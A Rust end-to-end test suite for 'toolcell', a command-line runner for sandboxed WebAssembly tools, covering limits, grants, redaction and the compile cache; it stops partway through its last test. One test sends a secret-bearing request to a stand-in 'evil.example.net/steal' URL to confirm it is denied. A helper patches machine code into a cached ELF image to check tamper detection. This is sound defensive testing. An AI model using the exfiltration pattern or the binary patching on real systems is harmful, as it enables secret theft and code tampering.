//! The `toolcell` binary end to end. (Long: one test per command and flag a user meets.)

use assert_cmd::Command;
use predicates::prelude::*;
use serde_json::{Value, json};

fn toolcell() -> Command {
    warm_cache();
    let mut command = Command::cargo_bin("toolcell").unwrap();
    command.env_remove("TOOLCELL_TOOLS_DIR");
    command.env("TOOLCELL_CACHE_DIR", concat!(env!("CARGO_TARGET_TMPDIR"), "/compile-cache"));
    command
}

/// Compiles the built-in tools into the suite's cache once, before any test starts a CLI:
/// the tests run at once, and each CLI would compile what the cache lacks (python's 21 MB
/// component is about 20 s of CPU).
fn warm_cache() {
    static WARM: std::sync::Once = std::sync::Once::new();
    WARM.call_once(|| {
        let mut list = Command::cargo_bin("toolcell").unwrap();
        list.env_remove("TOOLCELL_TOOLS_DIR")
            .env("TOOLCELL_CACHE_DIR", concat!(env!("CARGO_TARGET_TMPDIR"), "/compile-cache"));
        list.arg("list").assert().success();
    });
}

/// Runs `toolcell invoke ...` and returns (exit code, printed ToolOutput).
fn invoke(args: &[&str]) -> (i32, Value) {
    let output = toolcell().arg("invoke").args(args).output().unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|err| panic!("stdout is a ToolOutput ({err}): {}", String::from_utf8_lossy(&output.stdout)));
    (output.status.code().unwrap(), printed)
}

#[test]
fn list_shows_the_built_in_tools() {
    toolcell()
        .arg("list")
        .assert()
        .success()
        .stdout(predicate::str::starts_with("NAME"))
        .stdout(predicate::str::contains("TITLE"))
        .stdout(predicate::str::contains("calculator"))
        .stdout(predicate::str::contains("Unit Converter"))
        .stdout(predicate::str::contains("unit_convert"));
}

#[test]
fn list_json_has_definitions_and_diagnostics() {
    let output = toolcell().args(["list", "--json"]).output().unwrap();
    assert!(output.status.success());
    let listed: Value = serde_json::from_slice(&output.stdout).unwrap();
    let names: Vec<&str> =
        listed["tools"].as_array().unwrap().iter().map(|tool| tool["name"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        ["calculator", "datetime", "files", "http_fetch", "json_query", "python", "regex", "unit_convert"]
    );
    let files = &listed["tools"][2];
    assert_eq!(files["requested"]["directories"], json!([{"guest_path": "/workspace", "writable": false}]));
    assert_eq!(files["granted"]["dirs"], json!([]));
    assert_eq!(files["title"], "Files");
    assert_eq!(files["annotations"], json!({"readOnlyHint": true, "idempotentHint": true, "openWorldHint": false}));
    assert_eq!(listed["tools"][3]["annotations"]["openWorldHint"], true, "http_fetch");
    assert_eq!(listed["diagnostics"], json!([]));
}

#[test]
fn list_warns_about_components_that_did_not_load() {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-list-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(toolcell_tests::ECHO, dir.join("echo.wasm")).unwrap();
    std::fs::write(dir.join("broken.wasm"), b"nope").unwrap();
    toolcell()
        .args(["list", "--tools-dir"])
        .arg(&dir)
        .assert()
        .success()
        .stdout(predicate::str::contains("echo"))
        .stderr(predicate::str::contains("warning: not loaded:").and(predicate::str::contains("broken.wasm")));
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn invoke_compiles_and_reads_only_the_tool_it_calls() {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-only-{}", std::process::id()));
    let cache = dir.with_extension("cache");
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&cache);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(toolcell_tools::CALCULATOR, dir.join("calculator.wasm")).unwrap();
    std::fs::copy(toolcell_tests::ECHO, dir.join("echo.wasm")).unwrap();
    std::fs::write(dir.join("broken.wasm"), b"nope").unwrap();
    // The folder's policy still applies to the one tool loaded.
    std::fs::write(dir.join("toolcell.toml"), "[tools.calculator.limits]\nfuel = 1000\n").unwrap();
    let invoke = |tool: &str, arguments: &str| {
        let mut command = toolcell();
        command.env("TOOLCELL_CACHE_DIR", &cache).args(["invoke", tool, arguments, "--no-builtins", "--tools-dir"]);
        command.arg(&dir).output()
    };
    let entries = || compiled_entries(&cache).len();

    let output = invoke("calculator", r#"{"expression": "1 + 1"}"#).unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["error"]["kind"], "fuel_exhausted", "the policy's fuel: {printed}");
    assert_eq!(entries(), 1, "only calculator.wasm was compiled, not echo.wasm");

    // A tool whose file is named otherwise is found by loading everything.
    std::fs::rename(dir.join("echo.wasm"), dir.join("renamed.wasm")).unwrap();
    let output = invoke("echo", r#"{"text": "hi", "count": 1}"#).unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["is_error"], false, "{printed}");
    assert_eq!(entries(), 2, "echo compiled too (broken.wasm never compiles)");

    // The same for the built-in tools.
    std::fs::remove_dir_all(&cache).unwrap();
    let output = toolcell().env("TOOLCELL_CACHE_DIR", &cache).args(["invoke", "unit_convert"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "missing arguments");
    assert_eq!(entries(), 1, "only the built-in unit_convert was compiled");
    std::fs::remove_dir_all(&dir).unwrap();
    std::fs::remove_dir_all(&cache).unwrap();
    let _ = std::fs::remove_file(cache.with_extension("key"));
}

#[test]
fn schema_prints_the_definition() {
    let output = toolcell().args(["schema", "calculator", "--json"]).output().unwrap();
    assert!(output.status.success());
    let definition: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(definition["name"], "calculator");
    assert_eq!(definition["title"], "Calculator");
    assert_eq!(definition["parameters"]["type"], "object");
    assert_eq!(
        definition["annotations"],
        json!({"readOnlyHint": true, "idempotentHint": true, "openWorldHint": false})
    );

    toolcell()
        .args(["schema", "calculator"])
        .assert()
        .success()
        .stdout(predicate::str::contains("title: Calculator"))
        .stdout(predicate::str::contains("hints: read-only, idempotent, closed world"))
        .stdout(predicate::str::contains("expression (string, 1 to 10000 characters, required)"))
        .stdout(predicate::str::contains("limits: fuel 10,000,000,000, timeout 5 s, memory 64 MiB"));
}

#[test]
fn schema_of_an_unknown_tool_is_a_usage_error() {
    toolcell()
        .args(["schema", "calculater"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no tool named `calculater`; did you mean `calculator`?"));
    toolcell()
        .args(["check", "calculater.wasm"])
        .current_dir(toolcell_tools::DIR)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("calculater.wasm does not exist; did you mean ./calculator.wasm?"));
}

#[test]
fn the_version_names_the_commit_it_was_built_from() {
    let output = toolcell().arg("--version").output().unwrap();
    let line = String::from_utf8(output.stdout).unwrap();
    let head = std::process::Command::new("git").args(["rev-parse", "--short=12", "HEAD"]).output().unwrap();
    let head = String::from_utf8(head.stdout).unwrap();
    assert_eq!(line, format!("toolcell {} ({})\n", env!("CARGO_PKG_VERSION"), head.trim()));
}

#[test]
fn completions_cover_every_command() {
    let output = toolcell().args(["completions", "bash"]).output().unwrap();
    assert!(output.status.success());
    let script = String::from_utf8(output.stdout).unwrap();
    for command in ["list", "check", "schema", "invoke", "respond", "serve", "new", "build", "completions"] {
        assert!(script.contains(command), "{command} is missing from the bash completions");
    }
    assert!(script.contains("--tools-dir") && script.contains("complete -F _toolcell"));
}

#[test]
fn invoke_raw_prints_the_result_itself() {
    toolcell()
        .args(["invoke", "calculator", r#"{"expression": "2 + 2"}"#, "--raw"])
        .assert()
        .success()
        .stdout("{\n  \"value\": 4.0\n}\n");
    toolcell()
        .args(["invoke", "calculator", "{}", "--raw"])
        .assert()
        .code(1)
        .stdout("")
        .stderr(predicate::str::contains("error (invalid_arguments): The arguments do not match"));
}

#[test]
fn check_of_a_tool_name_points_at_schema() {
    toolcell().args(["check", "calculator"]).assert().code(2).stderr(predicate::str::contains(
        "calculator does not exist. `check` takes a component file; to see the tool `calculator`, run: toolcell \
         schema calculator",
    ));
}

#[test]
fn schema_shows_nested_fields_and_keeps_the_tools_folder_in_its_hint() {
    toolcell().args(["--tools-dir", toolcell_tools::DIR, "schema", "json_query"]).assert().success().stdout(
        predicate::str::contains(format!(
            "Full JSON Schema: toolcell --tools-dir {} schema json_query --json",
            toolcell_tools::DIR
        )),
    );
    // A parameter whose type is a struct shows its fields below it; enums show their values.
    toolcell()
        .args(["schema", "regex"])
        .assert()
        .success()
        .stdout(predicate::str::contains("  flags (Flags or null, optional): "))
        .stdout(predicate::str::contains("\n    case_insensitive (boolean, optional): "))
        .stdout(predicate::str::contains("operation (one of: \"find\", \"replace\", \"split\", required)"));
    // Every parameter of the tool itself is shown, however many.
    let files = toolcell().args(["schema", "files"]).output().unwrap();
    let files = String::from_utf8_lossy(&files.stdout);
    assert!(files.contains("  recursive (") && !files.contains("more (see --json)"), "{files}");
}

#[test]
fn a_missing_tools_folder_is_reported_once() {
    let output = toolcell().args(["list", "--tools-dir", "/nonexistent/toolcell"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert_eq!(stderr.matches("No such file or directory").count(), 1, "{stderr}");
}

#[test]
fn invoke_memory_above_the_default_is_granted_not_capped() {
    // The pool's slots are sized for the default (64 MiB); asking for more gets more.
    let (_, output) = invoke(&[toolcell_tests::MEMORY_BOMB, "--memory", "100MiB"]);
    assert_eq!(output["error"]["kind"], "memory_limit", "{output:#}");
    assert_eq!(output["error"]["limit_bytes"], 100 << 20, "{output:#}");
    assert!(output["usage"]["peak_memory_bytes"].as_u64().unwrap() > 64 << 20, "{output:#}");
}

#[test]
fn invoke_prints_the_output_and_exits_zero() {
    let (code, output) = invoke(&["calculator", r#"{"expression": "2 * (3 + 4)"}"#]);
    assert_eq!(code, 0);
    assert_eq!(output["is_error"], false);
    assert_eq!(serde_json::from_str::<Value>(output["content"].as_str().unwrap()).unwrap()["value"], json!(14.0));
    assert_eq!(output["call_id"], "cli");
    assert!(output["usage"]["fuel_consumed"].as_u64().unwrap() > 0);
}

#[test]
fn invoke_a_failing_call_exits_one_with_the_error() {
    let (code, output) = invoke(&["calculator", r#"{"expresion": "1"}"#]);
    assert_eq!(code, 1);
    assert_eq!(output["is_error"], true);
    assert_eq!(output["error"]["kind"], "invalid_arguments");
    assert_eq!(output["error"]["retryable"], true);
}

#[test]
fn invoke_an_unknown_tool_shows_what_the_model_would_get() {
    let (code, output) = invoke(&["calculater", r#"{"expression": "1"}"#]);
    assert_eq!(code, 1);
    assert_eq!(output["error"]["kind"], "unknown_tool");
    assert_eq!(output["error"]["closest"], json!(["calculator"]));
}

#[test]
fn invoke_reads_arguments_from_stdin_and_from_a_file() {
    let output =
        toolcell().args(["invoke", "calculator", "-"]).write_stdin(r#"{"expression": "10 / 4"}"#).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(String::from_utf8_lossy(&output.stdout).contains("2.5"));

    let file = std::env::temp_dir().join(format!("toolcell-cli-args-{}.json", std::process::id()));
    std::fs::write(&file, r#"{"expression": "sqrt(16)"}"#).unwrap();
    let (code, output) = invoke(&["calculator", "--args-file", file.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert!(output["content"].as_str().unwrap().contains('4'));
    std::fs::remove_file(file).unwrap();
}

#[test]
fn invoke_a_component_file_with_context_and_id() {
    let (code, output) = invoke(&[
        toolcell_tests::ECHO,
        r#"{"text": "hi", "count": 1}"#,
        "--context",
        r#"{"user": "ada"}"#,
        "--id",
        "c7",
    ]);
    assert_eq!(code, 0, "{output:#}");
    let result: Value = serde_json::from_str(output["content"].as_str().unwrap()).unwrap();
    assert_eq!(result["call_id"], "c7");
    assert_eq!(result["host_context"], json!({"user": "ada"}));
}

#[test]
fn invoke_applies_limits_from_the_command_line() {
    let (code, output) = invoke(&[toolcell_tests::INFINITE_LOOP, "--timeout", "200ms", "--fuel", "1000000000000"]);
    assert_eq!(code, 1);
    assert_eq!(output["error"], json!({"kind": "timeout", "limit_ms": 200, "retryable": false}));

    let (_, output) = invoke(&[toolcell_tests::INFINITE_LOOP, "--fuel", "1000000", "--timeout", "30s"]);
    assert_eq!(output["error"]["kind"], "fuel_exhausted");

    let (_, output) = invoke(&[toolcell_tests::MEMORY_BOMB, "--memory", "8MiB"]);
    assert_eq!(output["error"]["kind"], "memory_limit");
    assert_eq!(output["error"]["limit_bytes"], 8 << 20);
}

#[test]
fn arguments_that_are_not_utf8_are_a_usage_error() {
    toolcell()
        .args(["invoke", "calculator", "-"])
        .write_stdin(b"{\"expression\": \"\xff\xfe\"}".to_vec())
        .assert()
        .code(2)
        .stderr(predicate::str::contains("UTF-8"));
}

#[test]
fn usage_errors_exit_two() {
    toolcell().args(["invoke", "calculator", "--timeout", "soon"]).assert().code(2);
    toolcell()
        .args(["invoke", "calculator", "--context", "[1]"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--context"));
    toolcell().args(["invoke", "missing.wasm"]).assert().code(2).stderr(predicate::str::contains("missing.wasm"));
    toolcell()
        .args(["list", "--tools-dir", "/nonexistent/toolcell"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("/nonexistent/toolcell"));
    toolcell().arg("frobnicate").assert().code(2);
}

#[test]
fn invoke_grants_a_directory_for_one_call() {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-dir-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("a.txt"), "granted text").unwrap();
    let arguments = r#"{"operation": "read", "path": "/workspace/a.txt"}"#;
    let (code, output) = invoke(&["files", arguments]);
    assert_eq!(code, 1, "without the grant the file is not there: {output:#}");

    let grant = format!("{}:/workspace:ro", dir.display());
    let (code, output) = invoke(&["files", arguments, "--dir", &grant]);
    assert_eq!(code, 0, "{output:#}");
    assert!(output["content"].as_str().unwrap().contains("granted text"), "{output:#}");
}

#[test]
fn invoke_http_is_denied_until_the_host_is_allowed() {
    // Port 9 (discard) on the loopback: nothing listens, so an allowed request is refused
    // by the network rather than by the policy.
    let arguments = r#"{"url": "http://127.0.0.1:9/"}"#;
    let output = toolcell().args(["invoke", "http_fetch", arguments]).output().unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["error"]["kind"], "http_denied", "{printed:#}");
    assert_eq!(printed["error"]["retryable"], json!(false), "nothing the model can change: {printed:#}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("hint: `http_fetch` has no HTTP grant") && stderr.contains("--allow-host"), "{stderr}");

    let (code, output) = invoke(&["http_fetch", arguments, "--allow-host", "127.0.0.1:9"]);
    assert_eq!((code, output["error"]["kind"].as_str()), (1, Some("tool_failed")), "{output:#}");
    assert_eq!(output["error"]["retryable"], json!(true), "{output:#}");
}

#[test]
fn invoke_files_without_a_directory_says_what_to_grant() {
    let output =
        toolcell().args(["invoke", "files", r#"{"operation": "list", "path": "/workspace"}"#]).output().unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["error"]["kind"], "tool_failed", "{printed:#}");
    assert_eq!(printed["error"]["retryable"], json!(false), "{printed:#}");
    let content = printed["content"].as_str().unwrap();
    assert!(!content.contains("Change the arguments"), "{content}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("--dir HOST_DIR:/workspace"), "{stderr}");
}

#[test]
fn invoke_env_secrets_are_redacted_from_the_output_and_plain_values_are_not() {
    let output = toolcell()
        .args(["invoke", toolcell_tests::ENV_READER, r#"{"name": "API_TOKEN"}"#, "--env", "API_TOKEN"])
        .env("API_TOKEN", "hunter2-secret")
        .output()
        .unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["content"], json!(r#""token=[REDACTED]""#), "{printed:#}");
    assert!(!printed.to_string().contains("hunter2-secret"), "{printed:#}");

    let (code, printed) =
        invoke(&[toolcell_tests::ENV_READER, r#"{"name": "API_TOKEN"}"#, "--env", "API_TOKEN=metric"]);
    assert_eq!((code, printed["content"].clone()), (0, json!(r#""token=metric""#)), "{printed:#}");
}

#[test]
fn denied_requests_are_logged_without_their_secrets() {
    let secret = "query-secret-5c1e";
    let output = toolcell()
        .args(["invoke", "http_fetch"])
        .arg(format!(r#"{{"url": "https://evil.example.net/steal?key={secret}"}}"#))
        .args(["--allow-host", "example.com", "--env", "SECRET_KEY"])
        .env("SECRET_KEY", secret)
        .env("TOOLCELL_LOG", "debug")
        .output()
        .unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["error"]["kind"], "http_denied", "{printed:#}");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("HTTP request denied"), "the denial is logged: {stderr}");
    assert!(!stderr.contains(secret) && !printed.to_string().contains(secret), "{stderr}\n{printed:#}");
}

#[test]
fn a_file_named_like_a_tool_is_not_run_in_its_place() {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-shadow-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    // A component that reads the environment, dropped where the operator runs toolcell.
    std::fs::copy(toolcell_tests::ENV_READER, dir.join("http_fetch")).unwrap();
    let output = toolcell()
        .current_dir(&dir)
        .args(["invoke", "http_fetch", r#"{"url": "http://127.0.0.1:9/"}"#, "--allow-host", "127.0.0.1:9"])
        .output()
        .unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(printed["tool"], "http_fetch", "the built-in tool ran: {printed:#}");
    assert_eq!(printed["error"]["kind"], "tool_failed", "the connection is refused: {printed:#}");
    // A path still names a file.
    toolcell()
        .current_dir(&dir)
        .args(["schema", "./http_fetch"])
        .assert()
        .success()
        .stdout(predicate::str::contains("env_reader"));
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn an_absurd_timeout_is_a_usage_error() {
    toolcell()
        .args(["invoke", "calculator", r#"{"expression": "1"}"#, "--timeout", "10000000000000000000"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("longer than a day"));
}

/// A compiled entry whose machine code was replaced (here: all of `.text` made a slide into
/// `exit_group(42)`) must never run: the next load compiles afresh and replaces it.
#[test]
fn a_tampered_compile_cache_entry_is_never_run() {
    let cache = std::env::temp_dir().join(format!("toolcell-cli-tamper-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&cache);
    let check = || toolcell().env("TOOLCELL_CACHE_DIR", &cache).args(["check", toolcell_tests::ECHO]).output().unwrap();
    assert!(check().status.success());
    let entries = compiled_entries(&cache);
    assert_eq!(entries.len(), 1, "{entries:?}");
    let mut bytes = std::fs::read(&entries[0]).unwrap();
    inject_exit_group(&mut bytes, 42);
    std::fs::write(&entries[0], &bytes).unwrap();

    let output = check();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(String::from_utf8_lossy(&output.stdout).contains(": ok"));
    assert_ne!(std::fs::read(&entries[0]).unwrap(), bytes, "the entry was replaced");
    std::fs::remove_dir_all(&cache).unwrap();
    let _ = std::fs::remove_file(cache.with_extension("key"));
}

#[test]
fn a_trap_is_logged_with_its_wasm_backtrace_but_not_the_hosts() {
    // Resolving the host's backtrace (captured when RUST_BACKTRACE is set) held the first
    // trapping call in a process for 150-270 ms.
    let output = toolcell()
        .env("RUST_BACKTRACE", "1")
        .env("TOOLCELL_LOG", "warn")
        .args(["invoke", toolcell_tests::INFINITE_LOOP, "--timeout", "50ms"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let logged = String::from_utf8_lossy(&output.stderr);
    assert!(logged.contains("wasm backtrace") && logged.contains("wasm trap: interrupt"), "{logged}");
    assert!(!logged.contains("Stack backtrace"), "{logged}");
}

#[test]
fn compiling_shows_a_bar_on_a_terminal_and_a_line_per_tool_elsewhere() {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-progress-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(toolcell_tests::COUNTER, dir.join("counter.wasm")).unwrap();
    let binary = assert_cmd::cargo::cargo_bin("toolcell");
    let command = format!("{} --no-cache --no-builtins --tools-dir {} list", binary.display(), dir.display());
    // `script` (util-linux) runs the command on a pseudo-terminal and copies what it shows.
    let on_terminal = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .output()
        .expect("`script` from util-linux runs a command on a terminal");
    let shown = String::from_utf8_lossy(&on_terminal.stdout);
    assert!(shown.contains("compiling 0/1 tools, once (then cached): counter.wasm ("), "{shown}");
    assert!(shown.contains("counter"), "and then the list: {shown}");
    assert!(!shown.contains("toolcell: compiling"), "a bar, not lines: {shown}");

    let piped = toolcell().args(["--no-cache", "--no-builtins", "--tools-dir"]).arg(&dir).arg("list").output().unwrap();
    assert!(piped.status.success());
    let lines: Vec<String> = String::from_utf8_lossy(&piped.stderr).lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 2, "a line as the tool starts compiling and one as it ends: {lines:?}");
    assert!(lines[0].starts_with("toolcell: compiling counter.wasm ("), "{lines:?}");
    assert!(lines[1].starts_with("toolcell: compiled counter.wasm in "), "{lines:?}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn processes_sharing_a_fresh_cache_all_load_and_leave_whole_entries() {
    let dir = std::env::temp_dir().join(format!("toolcell-cli-shared-{}", std::process::id()));
    let cache = dir.with_extension("cache");
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&cache);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(toolcell_tools::UNIT_CONVERT, dir.join("unit_convert.wasm")).unwrap();
    std::fs::copy(toolcell_tests::COUNTER, dir.join("counter.wasm")).unwrap();
    let list = || {
        let mut command = std::process::Command::new(assert_cmd::cargo::cargo_bin("toolcell"));
        command.env("TOOLCELL_CACHE_DIR", &cache).args(["list", "--json", "--no-builtins", "--tools-dir"]).arg(&dir);
        command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
        command
    };
    // Four processes compile the same two components and write the same entries at once.
    let children: Vec<_> = (0..4).map(|_| list().spawn().unwrap()).collect();
    for child in children {
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let listed: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(listed["tools"].as_array().map(Vec::len), Some(2), "{listed}");
        assert_eq!(listed["diagnostics"], json!([]));
    }
    let entries = || {
        // (Beside each entry, a record of what the tool said of itself.)
        let mut entries: Vec<_> = std::fs::read_dir(&cache)
            .unwrap()
            .filter(|entry| entry.as_ref().unwrap().path().extension().is_none_or(|extension| extension != "said"))
            .map(|entry| {
                let path = entry.unwrap().path();
                (path.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read(&path).unwrap())
            })
            .collect();
        entries.sort();
        entries
    };
    let written = entries();
    let names: Vec<&str> = written.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names.len(), 2, "one entry per component, no temporary files left: {names:?}");
    assert!(names.iter().all(|name| name.ends_with(".cwasm")), "{names:?}");
    // The entries are whole and authentic: the next process uses them as they are (an
    // entry that failed authentication would be compiled again and rewritten).
    assert!(list().output().unwrap().status.success());
    assert!(entries() == written, "the entries were used, not replaced");
    std::fs::remove_dir_all(&dir).unwrap();
    std::fs::remove_dir_all(&cache).unwrap();
    let _ = std::fs::remove_file(cache.with_extension("key"));
}

/// Overwrites the `.text` section of the ELF image inside a compile-cache entry with NOPs
/// ending in `mov eax, 231; mov edi, code; syscall` (x86-64 `exit_group`).
fn inject_exit_group(entry: &mut [u8], code: u8) {
    let start = entry.windows(4).position(|window| window == b"\x7fELF").expect("an ELF image in the entry");
    let elf = &mut entry[start..];
    let read = |bytes: &[u8], at: usize, len: usize| {
        bytes[at..at + len].iter().rev().fold(0u64, |value, byte| value << 8 | u64::from(*byte)) as usize
    };
    let (shoff, entry_size, count, names_index) =
        (read(elf, 0x28, 8), read(elf, 0x3a, 2), read(elf, 0x3c, 2), read(elf, 0x3e, 2));
    let header = |index: usize| shoff + index * entry_size;
    let names = read(elf, header(names_index) + 24, 8);
    let text = (0..count)
        .find(|&index| elf[names + read(elf, header(index), 4)..].starts_with(b".text\0"))
        .expect("a .text section");
    let (offset, size) = (read(elf, header(text) + 24, 8), read(elf, header(text) + 32, 8));
    let exit = [0xb8, 0xe7, 0x00, 0x00, 0x00, 0xbf, code, 0x00, 0x00, 0x00, 0x0f, 0x05];
    let code_area = &mut elf[offset..offset + size];
    code_area.fill(0x90);
    let tail = code_area.len() - exit.len();
    code_area[tail..].copy_from_slice(&exit);
}

#[test]
fn bad_grant_flags_are_usage_errors() {
    toolcell()
        .args(["invoke", "files", "{}", "--allow-host", "*bad.com"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("`*` may only appear as a whole first label"));
    toolcell()
        .args(["invoke", "files", "{}", "--dir", "/definitely/not/here:/workspace"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("/definitely/not/here cannot be used"));
}

#[test]
fn an_invalid_policy_file_names_the_table_and_key() {
    let file = std::env::temp_dir().join(format!("toolcell-cli-policy-{}.toml", std::process::id()));
    std::fs::write(&file, "[tools.http_fetch]\nallow_host = [\"example.com\"]\n").unwrap();
    toolcell()
        .args(["list", "--policy"])
        .arg(&file)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("[tools.http_fetch] has an unknown key `allow_host`"));
}

#[test]
fn list_shows_requested_and_granted_capabilities() {
    let file = std::env::temp_dir().join(format!("toolcell-cli-grants-{}.toml", std::process::id()));
    std::fs::write(&file, "[tools.http_fetch]\nallow_hosts = [\"example.com\"]\n").unwrap();
    toolcell()
        .args(["list", "--policy"])
        .arg(&file)
        .assert()
        .success()
        .stdout(predicate::str::is_match(r"files +requests dir /workspace \(read-only\)").unwrap())
        .stdout(predicate::str::contains("granted  http example.com"));
}

#[test]
fn check_reports_a_tool_and_what_it_requests() {
    toolcell()
        .args(["check", toolcell_tests::FS_WRITE])
        .assert()
        .success()
        .stdout(predicate::str::contains("tool: fs_write 0.1.0"))
        .stdout(predicate::str::contains("hints: closed world"))
        .stdout(predicate::str::contains("dir /data (read-write)"));
    toolcell()
        .args(["check", toolcell_tests::ANNOTATED])
        .assert()
        .success()
        .stdout(predicate::str::contains("title: Annotated tool"))
        .stdout(predicate::str::contains("hints: modifies its environment, not destructive, idempotent, closed world"));
    toolcell()
        .args(["check", toolcell_tests::INVALID_NAME])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("not a loadable tool: tool name `bad name!` is invalid"));
}

#[test]
fn a_chatty_tool_leaves_the_host_stdout_alone() {
    let output = toolcell().args(["invoke", toolcell_tests::CHATTY, "{}"]).output().unwrap();
    let printed: Value = serde_json::from_slice(&output.stdout).expect("stdout is exactly one ToolOutput");
    assert!(printed["diagnostics"]["dropped_stdio_bytes"].as_u64().unwrap() > 0, "{printed:#}");
    assert!(output.stderr.len() < 4096, "the guest's output never reaches the host's stderr either");
}

#[test]
fn a_closed_stdout_ends_the_command_quietly() {
    // `toolcell schema calculator | head -0`: the reader is gone before anything is printed.
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("toolcell"))
        .args(["schema", "calculator"])
        .env_remove("TOOLCELL_TOOLS_DIR")
        .env("TOOLCELL_CACHE_DIR", concat!(env!("CARGO_TARGET_TMPDIR"), "/compile-cache"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(output.status.code(), Some(141), "{stderr}");
}

#[test]
fn schema_and_list_print_provider_formats() {
    let output = toolcell().args(["schema", "calculator", "--format", "openai-strict"]).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let tool: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(tool["function"]["strict"], true);
    assert_eq!(tool["function"]["parameters"]["required"], json!(["expression", "variables"]));

    let output = toolcell().args(["list", "--format", "gemini"]).output().unwrap();
    let tools: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(tools[0]["functionDeclarations"].as_array().unwrap().len(), 8);

    toolcell()
        .args(["list", "--format", "openia"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unknown format `openia`; expected one of: openai, openai-strict"));
    toolcell()
        .args(["list", "--format", "anthropic-strict"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("at most 24 optional parameters in one request"));
}

/// `toolcell ARGS`, successful, its stdout as JSON.
fn json_of(args: &[&str]) -> Value {
    let output = toolcell().args(args).output().unwrap();
    assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

fn by_name<'a>(tools: &'a Value, name: &str) -> &'a Value {
    tools.as_array().unwrap().iter().find(|tool| tool["name"] == name).unwrap_or_else(|| panic!("no {name}"))
}

#[test]
fn list_exports_carry_deferral_a_namespace_and_code_callers() {
    let tools = json_of(&[
        "list",
        "--format",
        "openai-responses",
        "--defer-loading",
        "regex,files",
        "--namespace",
        "toolcell",
        "--namespace-description",
        "Sandboxed tools.",
        "--allowed-callers",
    ]);
    assert_eq!(tools.as_array().unwrap().len(), 3, "{tools:#}");
    let namespace = &tools[0];
    assert_eq!(
        (&namespace["type"], &namespace["name"], &namespace["description"]),
        (&json!("namespace"), &json!("toolcell"), &json!("Sandboxed tools."))
    );
    let functions = &namespace["tools"];
    assert_eq!(functions.as_array().unwrap().len(), 8);
    assert_eq!(by_name(functions, "regex")["defer_loading"], true);
    assert!(by_name(functions, "calculator").get("defer_loading").is_none());
    assert_eq!(by_name(functions, "calculator")["allowed_callers"], json!(["direct", "programmatic"]));
